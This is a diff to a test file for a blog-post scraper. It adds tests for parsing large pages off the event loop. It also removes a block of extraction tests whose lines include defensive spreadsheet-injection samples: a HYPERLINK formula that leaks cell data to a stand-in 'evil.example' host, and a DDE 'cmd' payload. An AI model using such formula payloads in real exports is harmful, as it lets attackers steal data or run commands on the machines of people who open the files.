@@ -3,13 +3,24 @@ import http from "node:http";
 import type { AddressInfo, Socket } from "node:net";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { SCRAPER } from "#app/lib/constants.ts";
-import { hasControlCharacters } from "#app/lib/control-characters.ts";
 import { parseCsv } from "#app/lib/csv.ts";
 import { scrapedPostsToCsv, validateImportRow } from "#app/lib/post-import-columns.ts";
-import { extractPost, ScrapeRequestError, scrapePosts, type ScrapeOptions } from "./scraper.server.ts";
+import { closeRenderThread } from "./render-thread.server.ts";
+import { ScrapeRequestError, scrapePosts, type ScrapeOptions } from "./scraper.server.ts";
 import type { Resolver } from "./ssrf-guard.server.ts";
 
 const fixture = (name: string) => readFileSync(new URL(`../../tests/fixtures/scrape/${name}.html`, import.meta.url), "utf8");
+
+/** An article of about 500 KB: 3,200 paragraphs with a link and an image each. */
+const LARGE_PARAGRAPHS = 3_200;
+const largeArticle = [
+  '<!doctype html><html><head><title>A Long Lake Norman Guide</title></head><body><article><h1>A Long Lake Norman Guide</h1>',
+  ...Array.from(
+    { length: LARGE_PARAGRAPHS },
+    (_, i) => `<p>Paragraph ${i + 1} on <a href="/coves/${i}">the coves</a> and their <strong>deep-water docks</strong>, <img src="/img/${i}.jpg" alt="Cove ${i}"> with views.</p>\n`,
+  ),
+  "</article></body></html>",
+].join("");
 
 /** Local fixture pages on 127.0.0.1, reachable only because the tests allow that host. */
 let server: http.Server;
@@ -41,6 +52,16 @@ beforeAll(async () => {
         return html(res, Buffer.from(fixture("plain-page").replace("Caf&eacute; culture", "Café culture"), "latin1"), "text/html; charset=ISO-8859-1");
       case "/title-only":
         return html(res, fixture("title-only"));
+      case "/large-article":
+        return html(res, largeArticle);
+      case "/late-end": {
+        // The page's last bytes come 300 ms after its first.
+        const page = fixture("title-only");
+        res.writeHead(200, { "content-type": "text/html" });
+        res.write(page.slice(0, 100));
+        setTimeout(() => res.end(page.slice(100)), 300);
+        return;
+      }
       case "/relative-redirect":
         return redirect("../title-only", 301);
       case "/to-loopback-name":
@@ -101,9 +122,12 @@ beforeAll(async () => {
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
   port = (server.address() as AddressInfo).port;
   base = `http://127.0.0.1:${port}`;
-});
+  // Pages are parsed on the two render threads, which the tests start from TypeScript: once, before timing anything.
+  await scrapePosts([`${base}/title-only`, `${base}/title-only`], options);
+}, 60_000);
 
 afterAll(async () => {
+  await closeRenderThread();
   for (const socket of openSockets) socket.destroy();
   await new Promise<void>((resolve) => server.close(() => resolve()));
 });
@@ -124,108 +148,6 @@ async function failure(path: string, extra: ScrapeOptions = {}) {
   expect(result.posts).toEqual([]);
   return result.failures[0]?.error;
 }
-
-describe("extractPost: every extraction rule", () => {
-  it("reads Open Graph and article meta tags, and the article body", () => {
-    const post = extractPost(fixture("wordpress-article"), "https://lakesideliving.example/blog/best-boat-ramps-lake-norman/");
-    expect(post).toMatchObject({
-      title: "The Best Public Boat Ramps on Lake Norman",
-      slug: "best-boat-ramps-lake-norman",
-      excerpt: "Five public boat ramps on Lake Norman, with parking, fees and the best times to launch.",
-      hero_image_url: "https://lakesideliving.example/wp-content/uploads/2025/04/boat-ramp.jpg",
-      categories: ["Boating & Water Sports", "Local Events"],
-      tags: ["boating", "Lake Norman"],
-      author_name: "Jordan Ellis",
-      published_at: "2025-04-18T12:30:00.000Z",
-      seo_title: "Best Boat Ramps on Lake Norman | Lakeside Living Blog",
-      seo_description: "Five public boat ramps on Lake Norman, with parking, fees and the best times to launch.",
-      canonical_url: "https://lakesideliving.example/blog/best-boat-ramps-lake-norman/",
-      featured: false,
-    });
-  });
-
-  it("drops control characters from every text it takes, and keeps formula-like text for the CSV to neutralise (issue 13)", () => {
-    const post = extractPost(fixture("hostile-article"), "https://lakesideliving.example/blog/hostile-article/");
-    expect(post).toMatchObject({
-      title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-      excerpt: "+cmd|' /C calc'!A0 and a bell in the excerpt",
-      author_name: "@Jordan Ellis",
-      categories: ["-Boating"],
-      tags: ["'quoted tag"],
-    });
-    expect(post.content_html).toContain("control characters into the CSV");
-    expect(post.content_html).toContain("a backspace and an escape that");
-    for (const [field, value] of Object.entries(post)) {
-      const texts = typeof value === "string" ? [value] : Array.isArray(value) ? value : [];
-      for (const text of texts) expect(hasControlCharacters(text, { multiline: field === "content_html" }), field).toBe(false);
-    }
-    const csv = scrapedPostsToCsv([post]);
-    const [line] = csv.split("\r\n").slice(1);
-    for (const cell of ['"\'=HYPERLINK(', `,"'@Jordan Ellis",`, `,"'-Boating",`, `,"'+cmd|' /C calc'!A0`]) expect(line).toContain(cell);
-    const [row] = parseCsv(csv).rows;
-    const imported = validateImportRow(row ?? {}, 1, { now: new Date(), agentName: "Meredith Vance" });
-    expect(imported.errors).toEqual([]);
-    expect(imported.data).toMatchObject({ title: post.title, excerpt: post.excerpt, authorName: "@Jordan Ellis", categories: ["-Boating"], tags: ["'quoted tag"] });
-  });
-
-  it("keeps only the sanitised article body, with absolute links and images", () => {
-    const { content_html: content } = extractPost(fixture("wordpress-article"), "https://lakesideliving.example/blog/best-boat-ramps-lake-norman/");
-    expect(content).toContain("<p>Lake Norman has more than thirty public access areas");
-    expect(content).toContain("<h2>Blythe Landing</h2>");
-    expect(content).toContain('<a href="https://lakesideliving.example/blog/huntersville-guide/">Blythe Landing</a>');
-    expect(content).toContain('<a href="https://www.mecknc.gov/parks">county park</a>');
-    expect(content).toContain('<img src="https://lakesideliving.example/wp-content/uploads/2025/04/blythe.jpg" alt="Blythe Landing ramp">');
-    expect(content).toContain('<img src="https://lakesideliving.example/uploads/lazy.jpg" alt="Lazy loaded">');
-    expect(content).toContain("<a>Click me</a>");
-    for (const absent of ["<script", "alert", "onerror", "srcset", "Share on Facebook", "Great post", "Posted in Boating", "Home", "<h1", "By Jordan Ellis", "not content"]) {
-      expect(content).not.toContain(absent);
-    }
-  });
-
-  it("falls back to JSON-LD for categories, keywords, author, date and image, and to [itemprop=articleBody]", () => {
-    const post = extractPost(fixture("jsonld-article"), "https://journal.example/posts/davidson-market-report-spring-2025");
-    expect(post).toMatchObject({
-      title: "Davidson Market Report: Spring 2025",
-      slug: "davidson-market-report-spring-2025",
-      excerpt: "Prices, days on market and inventory for Davidson, NC this spring.",
-      hero_image_url: "https://cdn.journal.example/davidson.jpg",
-      categories: ["Market Insights"],
-      tags: ["Davidson", "market report", "prices"],
-      author_name: "Priya Raman",
-      published_at: "2025-05-02T14:00:00.000Z",
-      seo_title: "Davidson Market Report, Spring 2025",
-      canonical_url: "",
-    });
-    expect(post.content_html).toBe(
-      "<p>Davidson's median sale price rose 6% over last spring, while homes spent a median of 19 days on the market before going under contract.</p>\n" +
-        "<p>Inventory remains tight in the town's walkable core; most new listings sold within the first weekend.</p>\n" +
-        "<ul><li>Median price: $785,000</li><li>Days on market: 19</li></ul>",
-    );
-  });
-
-  it("uses the h1, <time datetime>, og:url and the largest block of text when nothing better exists", () => {
-    const post = extractPost(fixture("plain-page"), "http://notes.example/archive/where-to-eat.html");
-    expect(post).toMatchObject({
-      title: "Where to Eat in Mooresville",
-      slug: "where-to-eat",
-      published_at: "2024-11-09T23:00:00.000Z",
-      canonical_url: "http://notes.example/archive/where-to-eat.html",
-      excerpt: "",
-      author_name: "",
-      categories: [],
-    });
-    expect(post.content_html.match(/<p>/g)).toHaveLength(3);
-    expect(post.content_html).not.toContain("Posted");
-    expect(post.content_html).not.toContain("Short.");
-  });
-
-  it("uses <title> when there is no og:title or h1, and the title for the slug of a bare address", () => {
-    const post = extractPost(fixture("title-only"), "https://weekend.example/");
-    expect(post.title).toBe("Troutman Weekend Ideas");
-    expect(post.slug).toBe("troutman-weekend-ideas");
-    expect(post.content_html).toContain("farmers market");
-  });
-});
 
 describe("scrapePosts", () => {
   it("scrapes several pages, in order, decoding their charset", async () => {
@@ -349,5 +271,34 @@ describe("scrapePosts: limits", () => {
     expect(await failure("/slow-headers", { timeoutMs: 300 })).toBe("The page did not answer within 0.3 seconds");
     expect(await failure("/slow-body", { timeoutMs: 300 })).toBe("The page did not answer within 0.3 seconds");
     expect(performance.now() - started).toBeLessThan(3_000);
+  });
+});
+
+describe("scrapePosts: parsing off the event loop (issue 33)", () => {
+  it("parses a large article without holding up the event loop", { timeout: 60_000 }, async () => {
+    expect(largeArticle.length).toBeGreaterThan(500_000);
+    // The longest time between two turns of a 10 ms timer, the last stretch included.
+    let lastTurn = performance.now();
+    let longestGap = 0;
+    const gap = () => {
+      longestGap = Math.max(longestGap, performance.now() - lastTurn);
+      lastTurn = performance.now();
+    };
+    const probe = setInterval(gap, 10);
+    const { posts, failures } = await scrapePosts([`${base}/large-article`], options);
+    gap();
+    clearInterval(probe);
+    expect(failures).toEqual([]);
+    expect(posts[0]?.title).toBe("A Long Lake Norman Guide");
+    expect(posts[0]?.content_html).toContain(`Paragraph ${LARGE_PARAGRAPHS} on`);
+    // On the event loop the parse held every other request for its whole length (7 s here); the
+    // bound leaves room for the scheduling of a machine busy with other work (gaps of 100–400 ms seen).
+    expect(longestGap).toBeLessThan(500);
+  });
+
+  it("times the source's answer only: another page's slow parse never makes a page late", { timeout: 60_000 }, async () => {
+    const { posts, failures } = await scrapePosts([`${base}/large-article`, `${base}/late-end`], { ...options, timeoutMs: 1_000 });
+    expect(failures).toEqual([]);
+    expect(posts.map((post) => post.title)).toEqual(["A Long Lake Norman Guide", "Troutman Weekend Ideas"]);
   });
 });
